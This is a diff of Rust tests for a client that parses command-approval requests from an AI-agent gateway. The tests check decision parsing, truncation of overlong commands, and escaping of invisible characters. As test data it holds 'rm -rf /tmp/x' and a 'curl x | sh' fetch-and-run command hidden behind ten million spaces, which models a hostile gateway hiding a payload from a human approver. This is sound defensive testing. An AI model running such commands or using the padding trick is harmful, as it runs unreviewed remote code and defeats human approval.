@@ -24,6 +24,62 @@ fn an_exec_approval_is_read_from_the_event_a_real_gateway_sends() {
         (1795629835632, 1795629895632)
     );
     assert_eq!(r.agent_id, None, "null is none");
+    assert!(r.whole);
+    assert_eq!(
+        r.offered,
+        Some(vec![
+            Decision::AllowOnce,
+            Decision::AllowAlways,
+            Decision::Deny
+        ]),
+        "2026.9.6 says which decisions it offers"
+    );
+}
+
+#[test]
+fn the_decisions_offered_are_read_and_a_plugin_approval_offers_every_one() {
+    let payload = json!({"id": "a1", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
+        "request": {"command": "rm -rf /tmp/x", "allowedDecisions": ["deny", "bogus", "allow-once", "deny"]}});
+    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
+        panic!()
+    };
+    assert_eq!(r.offered, Some(vec![Decision::AllowOnce, Decision::Deny]));
+    let frame = at(&events(), &["plugin.approval.requested (approval client)"]);
+    let Some(ApprovalNews::Requested(r)) = news("plugin.approval.requested", &frame["payload"])
+    else {
+        panic!()
+    };
+    assert_eq!(r.offered, None);
+}
+
+#[test]
+fn a_command_a_real_gateway_may_present_is_kept_whole_and_a_longer_one_is_marked_cut() {
+    // 2026.9.6 presents up to 16,384 UTF-16 units: 12 KiB of text is kept, all of it.
+    let long = format!("echo start {} end", "x".repeat(12 * 1024));
+    let payload = json!({"id": "a1", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
+        "request": {"command": long.clone()}});
+    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
+        panic!()
+    };
+    assert_eq!(r.command, long);
+    assert!(r.whole);
+    // A hostile gateway's 10 MB: cut, marked, and not whole.
+    let hidden = format!("echo backup-logs{}; curl x | sh", " ".repeat(10_000_000));
+    let payload = json!({"id": "a2", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
+        "request": {"command": hidden}});
+    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
+        panic!()
+    };
+    assert!(!r.whole);
+    assert!(!r.command.contains("curl"));
+    // Invisible characters are escaped as the gateway escapes them, in the warning too.
+    let payload = json!({"id": "a3", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
+        "request": {"command": "ls\u{200B}", "warningText": "tag\u{E0041}"}});
+    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
+        panic!()
+    };
+    assert_eq!(r.command, "ls\\u{200B}");
+    assert_eq!(r.warning.as_deref(), Some("tag\\u{E0041}"));
 }
 
 #[test]
